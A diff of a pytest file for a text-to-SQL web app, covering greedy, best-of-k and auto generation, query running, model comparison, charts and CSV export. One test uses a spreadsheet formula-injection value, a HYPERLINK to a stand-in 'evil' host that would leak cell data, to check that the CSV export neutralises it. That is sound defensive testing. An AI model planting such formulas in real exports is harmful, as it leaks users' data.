@@ -6,13 +6,14 @@
 import json
 from pathlib import Path
 import threading
+import time
 
 import gradio as gr
 import pandas as pd
 import pytest
 
 from tests.conftest import AWKWARD_SQL, build_db, sha256_of
-from text2sql.selection import BEST_OF_K, GREEDY
+from text2sql.selection import AUTO, BEST_OF_K, GREEDY
 from webapp.handlers import NO_RESULTS, Handlers, decoding_choices
 from webapp.service import Busy, GenerationLimit, Service
 from webapp.sources import EXAMPLE, PASTE, UPLOAD, ExampleDatabases, Workspace
@@ -108,11 +109,11 @@ def test_generate_then_run_gives_the_table_and_a_csv(handlers, fake_models):
     workspace, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "Three most expensive?",
                                                                     "", None)
     assert candidates["visible"] is False  # fast (greedy): no candidates to show
-    assert sql == "SELECT name, price FROM products ORDER BY price DESC LIMIT 3" and generated is True
+    assert sql == "SELECT name, price FROM products ORDER BY price DESC LIMIT 3" and generated == sql
     assert "Written by **fake**" in note and "only the SQL is kept" in note
     assert fake_models.history[-1][1]["content"].endswith("Question: Three most expensive?")
 
-    workspace, table, status, csv = handlers.run_generated(generated, EXAMPLE, "shop", None, "", sql, workspace)
+    workspace, table, status, csv, *_ = handlers.run_generated(generated, EXAMPLE, "shop", None, "", workspace)
     assert table["visible"] is True
     frame = table["value"]
     assert list(frame.columns) == ["name", "price"]
@@ -129,7 +130,7 @@ def test_the_csv_keeps_formulas_from_running_in_a_spreadsheet(handlers, tmp_path
         INSERT INTO t VALUES ('=HYPERLINK("http://evil/?"&A2)', -5, '-not a number');
         INSERT INTO t VALUES ('@SUM(1)', 2, 'plain text');
     """)
-    _, table, _, csv = handlers.run(UPLOAD, None, str(hostile), "", "SELECT * FROM t", None)
+    _, table, _, csv, *_ = handlers.run(UPLOAD, None, str(hostile), "", "SELECT * FROM t", None)
     assert table["value"].values.tolist()[0][0] == '=HYPERLINK("http://evil/?"&A2)'  # the table shows the data as is
     lines = Path(csv["value"]).read_text().splitlines()
     assert lines[0] == "'=cmd,amount,note"
@@ -138,24 +139,24 @@ def test_the_csv_keeps_formulas_from_running_in_a_spreadsheet(handlers, tmp_path
 
 
 def test_the_user_can_edit_the_sql_and_run_again(handlers):
-    workspace, table, status, _ = handlers.run(EXAMPLE, "school", None, "", "SELECT count(*) AS n FROM students", None)
+    workspace, table, status, _, *_ = handlers.run(EXAMPLE, "school", None, "", "SELECT count(*) AS n FROM students", None)
     assert table["value"].values.tolist() == [[8]] and status.startswith("✅ 1 row in")
 
 
 def test_run_refuses_writes_in_plain_words_and_the_file_is_untouched(handlers, upload):
     before = sha256_of(upload)
-    workspace, table, status, csv = handlers.run(UPLOAD, None, str(upload), "", "DELETE FROM person", None)
+    workspace, table, status, csv, *_ = handlers.run(UPLOAD, None, str(upload), "", "DELETE FROM person", None)
     assert table["visible"] is False and csv["visible"] is False
     assert status.startswith("❌ Refused: only read-only SELECT queries")
     assert sha256_of(upload) == before
 
 
 def test_run_reports_sql_errors_and_blobs_and_duplicate_columns(handlers, upload):
-    _, _, status, _ = handlers.run(UPLOAD, None, str(upload), "", "SELECT nope FROM person", None)
+    _, _, status, _, *_ = handlers.run(UPLOAD, None, str(upload), "", "SELECT nope FROM person", None)
     assert status == "❌ SQLite error: no such column: nope"
     sql = 'SELECT p.id, f.person_a AS id, t."blob col" FROM person p, friendship f, "Table With Space" t ' \
           "WHERE p.id = 1 AND f.person_a = 1 AND t.id = 1"
-    _, table, _, _ = handlers.run(UPLOAD, None, str(upload), "", sql, None)
+    _, table, _, _, *_ = handlers.run(UPLOAD, None, str(upload), "", sql, None)
     assert list(table["value"].columns) == ["id", "id (2)", "blob col"]
     assert table["value"].values.tolist() == [[1, 1, "<2 bytes>"]]
 
@@ -163,22 +164,22 @@ def test_run_reports_sql_errors_and_blobs_and_duplicate_columns(handlers, upload
 def test_run_truncates_long_results_and_says_so(handlers, monkeypatch):
     monkeypatch.setenv("TEXT2SQL_MAX_ROWS", "5")
     sql = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 50) SELECT i FROM n"
-    _, table, status, _ = handlers.run(EXAMPLE, "shop", None, "", sql, None)
+    _, table, status, _, *_ = handlers.run(EXAMPLE, "shop", None, "", sql, None)
     assert len(table["value"]) == 5 and "truncated: only the first 5 rows are shown" in status
 
 
 def test_run_on_a_pasted_schema_only_checks_the_sql(handlers):
     schema = "CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT, age INTEGER);"
-    _, table, status, csv = handlers.run(PASTE, None, None, schema, "SELECT count(*) FROM users WHERE age > 30", None)
+    _, table, status, csv, *_ = handlers.run(PASTE, None, None, schema, "SELECT count(*) FROM users WHERE age > 30", None)
     assert table["visible"] is False and csv["visible"] is False and status.startswith("✅ The SQL is valid for this schema")
-    _, _, status, _ = handlers.run(PASTE, None, None, schema, "SELECT salary FROM users", None)
+    _, _, status, _, *_ = handlers.run(PASTE, None, None, schema, "SELECT salary FROM users", None)
     assert status == "❌ SQLite error: no such column: salary"
 
 
 def test_run_with_an_empty_sql_box_or_no_database_says_what_to_do(handlers):
-    _, table, status, _ = handlers.run(EXAMPLE, "shop", None, "", "  ", None)
+    _, table, status, _, *_ = handlers.run(EXAMPLE, "shop", None, "", "  ", None)
     assert table["visible"] is False and status.startswith("Nothing to run yet")
-    _, table, status, csv = handlers.run(UPLOAD, None, None, "", "SELECT 1", None)
+    _, table, status, csv, *_ = handlers.run(UPLOAD, None, None, "", "SELECT 1", None)
     assert table["visible"] is False and csv["visible"] is False
     assert status.startswith("❌ Upload a SQLite database file")
 
@@ -195,24 +196,25 @@ def test_run_with_an_empty_sql_box_or_no_database_says_what_to_do(handlers):
 def test_generate_problems_go_to_the_note_and_the_sql_box_keeps_its_text(handlers, kind, text, question, model,
                                                                           message):
     workspace, sql, note, generated, _ = handlers.generate(kind, "shop", None, text, question, model, None)
-    assert note.startswith(message) and generated is False
+    assert note.startswith(message) and generated == ""
     assert sql == gr.skip()  # no change
-    _, table, status, csv = handlers.run_generated(generated, kind, "shop", None, text, "SELECT 1", workspace)
+    _, table, status, csv, *_ = handlers.run_generated(generated, kind, "shop", None, text, workspace)
     assert table["visible"] is False and status == "" and csv["visible"] is False
 
 
 def test_generate_when_the_model_writes_no_sql(handlers, fake_models):
     fake_models.enqueue("I am sorry, I cannot help with that.")
-    _, sql, note, generated, _ = handlers.generate(EXAMPLE, "shop", None, "", "Tell me a joke", "", None)
-    assert generated is False and note.startswith("❌ fake did not write a SQL query") and "I am sorry" in note
+    _, sql, note, generated, _ = handlers.generate(EXAMPLE, "shop", None, "", "Tell me a joke", "", None, GREEDY)
+    assert generated == "" and note.startswith("❌ fake did not write a SQL query") and "I am sorry" in note
 
 
 def test_generate_uses_the_chosen_model_and_reports_progress(handlers, fake_models):
     steps = []
     _, _, note, _, _ = handlers.generate(EXAMPLE, "shop", None, "", "How many orders?", "fake-b", None,
-                                      progress=lambda fraction, desc="": steps.append(desc))
+                                      progress=lambda step, desc="": steps.append((step, desc)))
     assert "Written by **fake-b**" in note
-    assert steps == ["Loading fake-b (only the first time it is used)…", "fake-b is writing SQL…"]
+    assert steps == [(0.02, "Reading the schema…"), (None, "Loading fake-b (once: its first question loads it)…"),
+                     (None, "fake-b: writing SQL…"), (None, "fake-b: checking and running it…")]
     assert handlers.loaded_models_markdown() == "* **fake-b**: fake model for tests"
 
 
@@ -222,12 +224,14 @@ def test_generate_best_of_k_shows_the_candidates_and_how_the_vote_went(handlers,
     _, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "Highest price?", "", None,
                                                             BEST_OF_K)
     assert fake_models.calls[-1] == ("sample", 1, 4)  # k from the settings
-    assert sql == "SELECT max(price) FROM products" and generated is True
+    assert sql == "SELECT MAX(price) FROM products" and generated == "SELECT max(price) FROM products"
     assert "Best of 4 (temperature 0.8): 3 of 4 candidates ran, 2 of them agree on this result." in note
     frame = candidates["value"]
-    assert candidates["visible"] is True and list(frame.columns) == ["candidate", "votes", "log-likelihood", "SQL",
-                                                                     "problem"]
+    assert candidates["visible"] is True
+    assert list(frame.columns) == ["#", "votes", "log-lik.", "SQL", "problem", "score", "reason"]
+    assert candidates["column_widths"] == ["8%", "10%", "11%", "21%", "21%", "9%", "21%"]
     assert frame["votes"].tolist() == [2, 2, 0, 1]
+    assert frame["reason"][0] == "2 of 3 votes"  # the vote's own score and reason (TEXT2SQL_SELECTION_RULE)
     assert frame["problem"][2].startswith("no such column: prize")
 
 
@@ -238,18 +242,18 @@ def test_generate_best_of_k_when_every_candidate_fails_shows_the_repair(handlers
                                                     BEST_OF_K)
     assert sql == "SELECT name FROM customers WHERE city = 'Lyon'"
     assert "0 of 4 candidates ran; the model repaired the most likely one, given its error, and it ran." in note
-    assert candidates["value"]["candidate"].tolist() == ["1", "2", "3", "4", "repair"]
+    assert candidates["value"]["#"].tolist() == ["1", "2", "3", "4", "repair"]
     assert "Running that query failed: no such column: nme" in fake_models.history[-1][-1]["content"]
 
 
 def test_an_unknown_decoding_mode_is_reported_in_the_note(handlers):
     _, sql, note, generated, _ = handlers.generate(EXAMPLE, "shop", None, "", "How many?", "", None, "beam")
-    assert note.startswith("❌ Unknown decoding mode 'beam'") and generated is False and sql == gr.skip()
+    assert note.startswith("❌ Unknown decoding mode 'beam'") and generated == "" and sql == gr.skip()
 
 
 def test_decoding_choices_name_k_from_the_settings(monkeypatch):
     monkeypatch.setenv("TEXT2SQL_BEST_OF_K", "8")
-    assert decoding_choices() == [("Fast", GREEDY), ("Best of 8", BEST_OF_K)]
+    assert decoding_choices() == [("Auto", AUTO), ("Fast", GREEDY), ("Best of 8", BEST_OF_K)]
 
 
 def test_compare_shows_each_models_sql_result_and_whether_they_agree(handlers, fake_models):
@@ -262,10 +266,11 @@ def test_compare_shows_each_models_sql_result_and_whether_they_agree(handlers, f
         EXAMPLE, "shop", None, "", "How many pending orders?", ["fake", "fake-b", "fake-c"], None
     )
     assert agreement == "⚠️ The models disagree: their results differ."
-    headers, codes, tables = slots[0::3], slots[1::3], slots[2::3]
+    columns, headers, codes, tables = slots[0::4], slots[1::4], slots[2::4], slots[3::4]
+    assert [c["visible"] for c in columns] == [True, True, True, False]  # no empty column takes room
     assert [h["visible"] for h in headers] == [True, True, True, False]
     assert headers[1]["value"].startswith("### fake-b\n") and "✅ 1 row" in headers[1]["value"]
-    assert codes[2]["value"] == "SELECT count(*) FROM orders"
+    assert codes[2]["value"] == "SELECT COUNT(*) FROM orders"  # formatted by sqlglot
     assert [t["value"].values.tolist() for t in tables[:3]] == [[[2]], [[2]], [[12]]]
 
 
@@ -273,10 +278,10 @@ def test_compare_agreeing_models_and_a_failing_one(handlers, fake_models):
     fake_models.enqueue("SELECT name FROM students WHERE year = 1", "SELECT name FROM students WHERE year = 1",
                         "SELECT name FROM pupils")
     _, agreement, *slots = handlers.compare(EXAMPLE, "school", None, "", "First years?", ["fake", "fake-b", "fake-c"],
-                                            None)
+                                            None, GREEDY)
     assert agreement == "✅ The 2 models that ran return the same rows. Failed: fake-c."
-    assert "❌ SQLite error: no such table: pupils" in slots[6]["value"]
-    assert slots[8]["visible"] is False
+    assert "❌ SQLite error: no such table: pupils" in slots[9]["value"]
+    assert slots[11]["visible"] is False
 
 
 def test_compare_best_of_k_says_how_each_model_chose(handlers, fake_models, monkeypatch):
@@ -287,8 +292,8 @@ def test_compare_best_of_k_says_how_each_model_chose(handlers, fake_models, monk
                                             BEST_OF_K)
     assert fake_models.calls == [("sample", 1, 2), ("sample", 1, 2)]
     assert agreement == "✅ All models return the same rows."
-    assert "Best of 2 (temperature 0.8): 2 of 2 candidates ran, 2 of them agree" in slots[0]["value"]
-    assert "Best of 2 (temperature 0.8): 1 of 2 candidates ran, 1 of them agree" in slots[3]["value"]
+    assert "Best of 2 (temperature 0.8): 2 of 2 candidates ran, 2 of them agree" in slots[1]["value"]
+    assert "Best of 2 (temperature 0.8): 1 of 2 candidates ran, 1 of them agree" in slots[5]["value"]
 
 
 def test_compare_needs_two_to_four_models(handlers):
@@ -346,13 +351,142 @@ def test_the_generation_limit_makes_the_next_request_wait():
     waiter.join()
 
 
-def test_choosing_a_database_warms_its_prompt_prefix_for_the_default_model(handlers, fake_models, upload):
+def test_generate_in_auto_mode_says_it_kept_the_greedy_answer_or_why_it_escalated(handlers, fake_models):
+    fake_models.enqueue("SELECT count(*) FROM orders")
+    _, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "How many orders?", "", None)
+    assert generated == "SELECT count(*) FROM orders" and candidates["visible"] is False
+    assert "Auto: the greedy answer passed every check, so it was kept" in note
+    fake_models.enqueue("SELECT count(*) FROM order", *["SELECT count(*) FROM orders"] * 8)
+    _, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "How many orders?", "", None)
+    assert generated == "SELECT count(*) FROM orders" and candidates["visible"] is True
+    assert "Auto: the greedy answer failed: no such table: order" in note
+    assert "so 8 candidates were voted on. Best of 8 (temperature 0.8): 8 of 8 candidates ran" in note
+
+
+def test_compare_shows_a_model_that_wrote_no_sql_as_a_result_with_what_it_wrote(handlers, fake_models):
+    fake_models.enqueue("SELECT count(*) FROM students", "There are many students in a school.")
+    _, agreement, *slots = handlers.compare(EXAMPLE, "school", None, "", "How many students?", ["fake", "fake-b"], None,
+                                            GREEDY)
+    assert agreement == "Only fake answered; fake-b failed (see each one's column)."
+    header, code = slots[5], slots[6]
+    assert "❌ The model did not write a SQL query." in header["value"]
+    assert "Its answer was:\n\n> There are many students in a school." in header["value"]
+    assert code["visible"] is False  # no empty box
+
+
+def test_compare_ticks_the_default_and_the_evaluated_models(handlers):
+    assert handlers.compare_defaults() == ["fake", "fake-b"]  # no runs in results/: the default, then registry order
+    run = handlers.results_dir / "run-c"
+    run.mkdir(parents=True)
+    (run / "metrics.json").write_text(json.dumps({"model": "fake-c", "n": 1, "ex": 0.5}))
+    assert handlers.compare_defaults() == ["fake", "fake-c"]
+
+
+def test_the_sql_box_shows_formatted_sql_and_runs_the_models_text(handlers, fake_models, monkeypatch):
+    fake_models.enqueue("SELECT count(*) FROM orders WHERE status  =  'pending'")
+    workspace, sql, _, generated, _ = handlers.generate(EXAMPLE, "shop", None, "", "Pending orders?", "", None, GREEDY)
+    assert sql == "SELECT COUNT(*) FROM orders WHERE status = 'pending'"
+    assert generated == "SELECT count(*) FROM orders WHERE status  =  'pending'"
+    ran = []
+    from webapp import handlers as handlers_module
+
+    real = handlers_module.run_or_check
+    monkeypatch.setattr(handlers_module, "run_or_check", lambda db, text: ran.append(text) or real(db, text))
+    handlers.run(EXAMPLE, "shop", None, "", sql, workspace, generated)  # the box as shown
+    handlers.run(EXAMPLE, "shop", None, "", sql + " LIMIT 1", workspace, generated)  # edited
+    assert ran == [generated, sql + " LIMIT 1"]
+
+
+def test_a_category_and_a_number_get_a_bar_chart_and_dates_a_line(handlers):
+    _, _, _, _, bars, line = handlers.run(EXAMPLE, "shop", None, "",
+                                          "SELECT city, count(*) AS n FROM customers GROUP BY city", None)
+    assert bars["visible"] is True and (bars["x"], bars["y"]) == ("city", "n") and line["visible"] is False
+    assert bars["y_lim"][0] == 0  # bars start at zero
+    assert sorted(bars["value"]["city"]) == sorted(set(bars["value"]["city"]))
+    _, _, _, _, bars, line = handlers.run(EXAMPLE, "shop", None, "",
+                                          "SELECT ordered_on AS day, count(*) AS n FROM orders GROUP BY day", None)
+    assert line["visible"] is True and bars["visible"] is False and line["x"] == "day"
+    _, _, _, _, bars, line = handlers.run(EXAMPLE, "shop", None, "", "SELECT name FROM customers", None)
+    assert bars["visible"] is False and line["visible"] is False
+
+
+def test_clear_answer_empties_every_note_and_result():
+    note, candidates, status, table, csv, bars, line = Handlers.clear_answer()
+    assert note == status == "" and not any(u["visible"] for u in (candidates, table, csv, bars, line))
+
+
+def test_choosing_a_database_shows_its_schema_and_clears_the_last_answer(handlers):
+    workspace, summary, ddl, note, candidates, status, table, *_ = handlers.choose_database(
+        EXAMPLE, "school", None, "", None)
+    assert summary.startswith("**school.sqlite**") and "CREATE TABLE students" in ddl
+    assert note == status == "" and table["visible"] is False and candidates["visible"] is False
+
+
+def test_best_of_k_progress_names_each_stage_and_counts_the_checks(handlers, fake_models, monkeypatch):
+    monkeypatch.setenv("TEXT2SQL_BEST_OF_K", "2")
+    fake_models.enqueue("SELECT nme FROM customers", "SELECT nam FROM customers", "SELECT name FROM customers",
+                        "SELECT name FROM customers")  # two candidates fail, two repairs run
+    steps = []
+    handlers.generate(EXAMPLE, "shop", None, "", "Names?", "", None, BEST_OF_K,
+                      progress=lambda step, desc="": steps.append((step, desc)))
+    assert steps[2:] == [(None, "fake: writing 2 candidates…"), ((1, 2), "fake: checking candidates…"),
+                         ((2, 2), "fake: checking candidates…"),
+                         (None, "fake: no candidate ran: the model is repairing its query…")]
+
+
+def test_candidates_get_score_and_reason_columns_when_a_selector_gives_them():
+    from text2sql.selection import Candidate
+    from webapp.results import candidates_frame, column_widths
+
+    scored = Candidate(sql="SELECT 1", raw="SELECT 1", chatty=False, logprob=-0.5, tokens=2)
+    scored.score, scored.reason = 0.9, "most rows answer the question"
+    frame = candidates_frame([scored])
+    assert list(frame.columns) == ["#", "votes", "log-lik.", "SQL", "problem", "score", "reason"]
+    assert frame.iloc[0].tolist()[-2:] == [0.9, "most rows answer the question"]
+    assert column_widths(frame) == ["8%", "10%", "11%", "21%", "21%", "9%", "21%"]
+
+
+def test_choosing_a_database_warms_its_prompt_prefix_once_the_model_is_loaded(handlers, fake_models, upload):
+    """The schema's prompt prefix is computed in the background as soon as a database is chosen
+    (``Service.database_chosen``), so the first question is answered warm; choosing a database
+    never loads a model."""
     from text2sql.pipeline import Database
     from text2sql.prompt import build_messages
 
+    handlers.service.origins.clear()  # as before the default model has loaded
+    assert handlers.service.database_chosen(Database.from_file(upload)) is None
+    handlers.service.load()
     handlers.show_schema(UPLOAD, None, str(upload), "", None)
     for thread in threading.enumerate():
-        if thread.name == "prefill":  # Service.warm_up's background thread
-            thread.join()
+        if thread.name == "prefill":
+            thread.join(timeout=10)
     assert fake_models.prefilled == [build_messages(Database.from_file(upload).schema, "")]
     assert fake_models.calls == []  # no question was answered
+
+
+def test_the_sql_box_shows_the_sql_as_the_model_writes_it(handlers, fake_models, monkeypatch):
+    """A generator that reports its text as it writes (as TransformersGenerator.sample does):
+    generate_live yields it into the SQL box, then generate's whole answer."""
+    generator = handlers.service.load()
+    sample = generator.sample
+    words = "SELECT count(*) FROM orders".split()
+
+    def sample_aloud(prompts, k, temperature, seed, on_text=None):
+        for i in range(1, len(words) + 1):
+            on_text(" ".join(words[:i]))
+            time.sleep(0.3)  # longer than LIVE_INTERVAL_S: each step is seen
+        return sample(prompts, k, temperature, seed)
+
+    monkeypatch.setattr(generator, "sample", sample_aloud)
+    fake_models.enqueue("SELECT count(*) FROM orders")
+    updates = list(handlers.generate_live(EXAMPLE, "shop", None, "", "How many orders?", "", None))
+    partial = [update[1] for update in updates[:-1]]
+    assert partial and partial == sorted(partial, key=len) and set(partial) <= {" ".join(words[:i]) for i in range(5)}
+    assert all(update[2] == gr.skip() for update in updates[:-1])  # the note waits for the answer
+    workspace, sql, note, generated, _ = updates[-1]
+    assert generated == "SELECT count(*) FROM orders" and "Auto: the greedy answer passed every check" in note
+
+
+def test_generate_live_passes_problems_through_as_generate_reports_them(handlers):
+    [(_, sql, note, generated, _)] = list(handlers.generate_live(EXAMPLE, "shop", None, "", " ", "", None))
+    assert note == "❌ Type a question first." and generated == "" and sql == gr.skip()
